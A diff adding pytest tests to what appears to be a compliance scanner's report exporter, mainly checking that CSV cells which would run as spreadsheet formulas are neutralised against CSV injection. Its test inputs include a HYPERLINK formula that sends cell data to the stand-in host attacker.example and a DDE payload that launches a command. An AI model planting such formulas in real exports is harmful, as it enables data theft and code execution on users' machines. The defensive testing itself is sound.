@@ -147,6 +147,27 @@ def test_csv_round_trips_through_the_csv_module(results):
     assert all(len(r) == len(COLUMNS) for r in rows)
 
 
+@pytest.mark.parametrize("value", [
+    '=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-rw-r--r--", "@SUM(1+1)",
+    "\tleading tab", "\rleading CR", "'already quoted",
+])
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(results, value):
+    """OWASP CSV injection: a cell starting = + - @ TAB or CR gets a leading `'` (and so does
+    one starting with `'`, so dropping one leading `'` always restores the value)."""
+    doc = json.loads(json.dumps(results))
+    r = doc["results"][0]
+    r["title"] = value
+    r["remediation"] = value
+    text = _render(doc, "csv")
+    row = next(x for x in csv.reader(io.StringIO(text, newline="")) if x[0] == r["rule_id"])
+    cells = dict(zip(COLUMNS, row))
+    for col in ("title", "remediation"):
+        assert cells[col] == "'" + value
+        assert cells[col][1:] == value
+    ordinary = next(x for x in csv.reader(io.StringIO(text, newline="")) if x[0] != r["rule_id"] and x[0] != "rule_id")
+    assert not any(c.startswith("'") for c in ordinary)
+
+
 # OCSF -------------------------------------------------------------------------------------
 @pytest.fixture(scope="module")
 def ocsf_validator() -> jsonschema.Draft202012Validator:
@@ -254,3 +275,10 @@ def test_every_sarif_result_has_a_location_even_without_a_rule_source(results, s
     locs = {r["ruleId"]: r["locations"][0]["physicalLocation"] for r in sarif["runs"][0]["results"]}
     assert locs["cis.ssh.max_auth_tries"] == {"artifactLocation": {"uri": "file:///etc/ssh/sshd_config"}, "region": {"startLine": 52}}
     assert locs["hipaa.access.auto_logoff"]["artifactLocation"]["uri"] == "file:///etc/profile.d/%2A.sh"
+
+
+def test_scan_offers_every_report_format():
+    from secpolicy.cli.core import SCAN_FORMATS
+    from secpolicy.reports import FORMATS
+
+    assert set(SCAN_FORMATS) == {"table"} | set(FORMATS)
